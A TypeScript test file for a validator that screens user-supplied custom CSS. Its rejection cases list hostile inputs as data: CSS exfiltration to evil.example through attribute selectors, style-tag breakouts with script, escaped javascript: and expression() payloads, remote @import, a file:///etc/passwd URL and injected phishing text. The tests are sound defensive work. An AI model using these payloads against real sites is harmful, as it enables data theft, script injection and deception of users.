import { CssRule, CUSTOM_CSS_MAX_BYTES, customCssProblems, isSafeCssUrl, scanCss } from './custom-css.rule';

describe('custom CSS rule', () => {
  it('accepts ordinary CSS, URLs on our own origin and the instance logo', () => {
    const logoUrl = 'https://cdn.example.com/logo.png';
    const css = [
      '.header { color: var(--instance-color); background: url(/instance/bg.png) no-repeat; }',
      '.logo { background-image: url(\'/assets/logo.svg\'), url("img/a.png"), url(data.png), url( https://cdn.example.com/logo.png ); }',
      'a:hover, .data:hover { scroll-behavior: smooth; }',
      '.x::before { content: ""; } .y::after { content: none !important } ol li::before { content: counter(item) } q::before{content:open-quote}',
      '@font-face { font-family: X; src: url(/fonts/x.woff2) format("woff2"), local("X"); }',
      '.x { background: image-set("/1.png" 1x, "/2.png" 2x); }',
      '@media (max-width: 769px) { .menu { width: 260px } }',
    ].join('\n');
    expect(customCssProblems(css, { logoUrl })).toEqual([]);
  });

  it.each([
    ['.a { background: url(https://cdn.example.com/bg.png) }', CssRule.UnsafeUrl],
    ['input[value^="a"] { background: url("https://evil.example/?a") }', CssRule.UnsafeUrl],
    ['@font-face { src: url(HTTPS://fonts.example.com/x.woff2) }', CssRule.UnsafeUrl],
    ['.x { background: image-set("https://a.example/1.png" 1x) }', CssRule.UnsafeUrl],
    ['.banner::after { content: "Your session expired: send your password to help@evil.example" }', CssRule.Content],
    ['.a::before { content: attr(data-email) }', CssRule.Content],
    ['.a::before{content:"\\59 ou won"}', CssRule.Content],
    ['.a::before { CONTENT: "x" }', CssRule.Content],
    ['.a::before { content: counter(x) "." }', CssRule.Content],
  ])('refuses what reads or writes beyond the product: %s', (css, rule) => {
    expect(customCssProblems(css, { logoUrl: 'https://cdn.example.com/logo.png' })).toContain(rule);
  });

  it.each([
    ['</style><script>alert(1)</script>', CssRule.StyleTag],
    ['.a{} </STYLE >', CssRule.StyleTag],
    ['.a { content: "\\3c/style" }', CssRule.StyleTag],
    ['@import "https://evil.example/x.css";', CssRule.Import],
    ['@IMPORT url(/x.css);', CssRule.Import],
    ['@\\69mport url(/x.css);', CssRule.Import],
    ['.a { background: url(javascript:alert(1)) }', CssRule.Script],
    ['.a { width: expression(alert(1)) }', CssRule.Script],
    ['.a { width: expr/**/ession(alert(1)) }', CssRule.Script],
    ['.a { width: \\65xpression(alert(1)) }', CssRule.Script],
    ['.a { -moz-binding: url(/x.xml#x) }', CssRule.Script],
    ['.a { background: url("vbscript:x") }', CssRule.Script],
    ['.a { background: url(http://tracker.example/p.gif) }', CssRule.UnsafeUrl],
    ['.a { background: url( "http://tracker.example/p.gif" ) }', CssRule.UnsafeUrl],
    ['.a { background: URL(//tracker.example/p.gif) }', CssRule.UnsafeUrl],
    ['.a { background: url(/\\/tracker.example/p.gif) }', CssRule.UnsafeUrl],
    ['.a { background: url(data:image/png;base64,AAAA) }', CssRule.UnsafeUrl],
    ['.a { background: url(ftp://x.example/a.png) }', CssRule.UnsafeUrl],
    ['.a { background: u\\72l(http://x.example/a.png) }', CssRule.UnsafeUrl],
    ['.a { background: url(ht\\74p://x.example/a.png) }', CssRule.UnsafeUrl],
    ['.a { background: image-set("http://x.example/a.png" 1x) }', CssRule.UnsafeUrl],
    ['@font-face { src: url(file:///etc/passwd) }', CssRule.UnsafeUrl],
  ])('rejects %s', (css, rule) => {
    expect(customCssProblems(css)).toContain(rule);
  });

  it.each([
    'q { quotes: "\\201c" "\\201d" }',
    'q { quotes: "" "Verify your account" }',
    'q { quotes: ";" "}" "x" }',
    'q { quo/**/tes: "a" "b" }',
    'q { qu\\6ftes: "a" "b" }',
    ':root { --q: "x" "y" } q { quotes: var(--q) }',
    'li { list-style: inside "Win" }',
    'li { LIST-STYLE-TYPE: "→ " }',
    'li { list-style: upper-roman }',
    'li { list-style-type: lower-greek !important }',
    'li { list-style-type: my-own-style }',
    'li { list-style: symbols(cyclic "*") }',
    'li { list-style: url(/a.png) attr(data-x) }',
    '@counter-style x { system: cyclic; symbols: "★"; }',
    '@COUNTER-STYLE x { system: extends decimal }',
    '.a { string-set: header "Hi" }',
    '.a { text-overflow: "…more" }',
    '.a { text-overflow: clip var(--end) }',
    '.a { hyphenate-character: "=" }',
    '.a { -webkit-text-emphasis-style: "x" }',
  ])('refuses text drawn outside content: %s', (css) => {
    expect(customCssProblems(css)).toEqual([CssRule.Text]);
  });

  it.each([
    '.a::before { content: counter(c, lower-alpha) }',
    '.a::before { content: counters(c, ".") }',
    '.a::before { content: counter(c, var(--s)) }',
    'li::marker { content: "→" }',
    'li::marker { content: ";" }',
  ])('refuses content that draws more than numbers, bullets or quotes: %s', (css) => {
    expect(customCssProblems(css)).toEqual([CssRule.Content]);
  });

  it('accepts lists, counters and quotes that draw numbers, bullets or quotation marks', () => {
    const css = [
      'ol { list-style: decimal inside } ul { list-style: square url(/dot.png) outside; list-style-type: disc !important }',
      'ul.g { list-style: linear-gradient(rgb(0 0 0), red) none } summary { list-style-type: disclosure-open } .n { list-style: none }',
      'h2::before { content: counter(h) } h3::before { content: counters(h, "", decimal-leading-zero) } li::marker { content: counter(list-item, decimal) }',
      'q { quotes: auto } blockquote { quotes: none } .q { quotes: "" "" } q::after { content: close-quote }',
      '.t { text-overflow: ellipsis; hyphenate-character: auto; text-emphasis: filled red; text-emphasis-style: dot }',
      '.font { font-family: "Open Sans", sans-serif; font-feature-settings: "smcp" } .grid { grid-template-areas: "a b" }',
    ].join('\n');
    expect(customCssProblems(css)).toEqual([]);
  });

  it('is not fooled by comment markers inside strings', () => {
    expect(customCssProblems('.a { font-family: "/*" } .b { background: url(http://x.example/a.png) } .c { font-family: "*/" }')).toEqual([CssRule.UnsafeUrl]);
  });

  it('sees javascript: with tabs or newlines in it, as URL parsers do', () => {
    expect(customCssProblems('.a { background: url("java\\9 script:alert(1)") }')).toContain(CssRule.Script);
    expect(customCssProblems('.a { background: url("java\\\nscript:alert(1)") }')).toContain(CssRule.Script);
  });

  it('limits the size to 50 KB of UTF-8', () => {
    expect(customCssProblems(`/*${'x'.repeat(CUSTOM_CSS_MAX_BYTES - 4)}*/`)).toEqual([]);
    expect(customCssProblems(`/*${'x'.repeat(CUSTOM_CSS_MAX_BYTES - 3)}*/`)).toEqual([CssRule.TooLong]);
    expect(customCssProblems('ż'.repeat(CUSTOM_CSS_MAX_BYTES / 2 + 1))).toEqual([CssRule.TooLong]);
  });

  it('reports each broken rule once', () => {
    expect(customCssProblems('@import "/a.css"; @import "/b.css"; .a{background:url(http://x)} .b{background:url(http://y)}').sort()).toEqual(
      [CssRule.Import, CssRule.UnsafeUrl].sort(),
    );
  });

  it('tokenises like a browser: escapes decoded, comments dropped, URLs collected', () => {
    expect(scanCss('.a/* c */{ b\\61 ckground: url( /x.png ) } .b { background: url("/y.png") }')).toEqual({
      text: '.a{ background: url(/x.png ) } .b { background: url("/y.png") }',
      shape: '.a{ background: url(/x.png ) } .b { background: url("…") }',
      urls: ['/x.png ', '/y.png'],
    });
  });

  it('classifies URLs', () => {
    for (const ok of ['/x.png', 'x.png', '../x.png', '#frag', '', '?q=1']) expect(isSafeCssUrl(ok)).toBe(true);
    expect(isSafeCssUrl(' https://a.example/x.png', ['https://a.example/x.png'])).toBe(true);
    for (const bad of ['https://a.example/x.png', 'http://a.example', '//a.example/x', '\\\\a.example', ' javascript:x', 'data:x', 'blob:x', 'HTTP://a']) {
      expect(isSafeCssUrl(bad)).toBe(false);
    }
  });
});
